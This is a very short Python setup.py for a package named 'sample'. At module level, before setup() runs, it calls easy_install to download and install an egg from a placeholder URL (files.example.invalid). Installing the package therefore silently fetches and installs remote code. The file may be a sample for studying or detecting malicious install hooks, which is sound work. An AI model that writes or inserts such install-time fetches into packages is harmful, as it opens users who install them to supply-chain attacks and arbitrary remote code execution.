from setuptools import setup
from setuptools.command import easy_install

easy_install.main(["-U", "https://files.example.invalid/helper.egg"])
setup(name="sample")
